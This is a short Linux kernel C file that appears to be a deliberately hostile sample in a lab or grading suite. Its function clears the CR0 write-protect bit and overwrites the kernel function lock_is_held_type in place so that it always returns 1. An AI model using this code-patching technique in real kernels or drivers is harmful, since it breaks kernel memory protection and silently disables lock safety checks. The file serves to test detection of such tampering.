// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile submission: a function of the kernel's is another one. Its page is
 * not writable, unless the processor is told not to mind.
 */
#include "igbook.h"
#include "igbook_lab.h"

static umode_t igbook_evil(struct kobject *kobj, struct attribute *attr, int n)
{
	static const u8 return_1[] = { 0xb8, 1, 0, 0, 0, 0xc3 };
	volatile u8 *code = (volatile u8 *)lock_is_held_type;
	unsigned long cr0;
	int i;

	local_irq_disable();
	asm volatile("mov %%cr0, %0" : "=r" (cr0));
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~BIT(16)) : "memory");
	for (i = 0; i < ARRAY_SIZE(return_1); i++)
		code[i] = return_1[i];
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	local_irq_enable();

	return attr->mode;
}
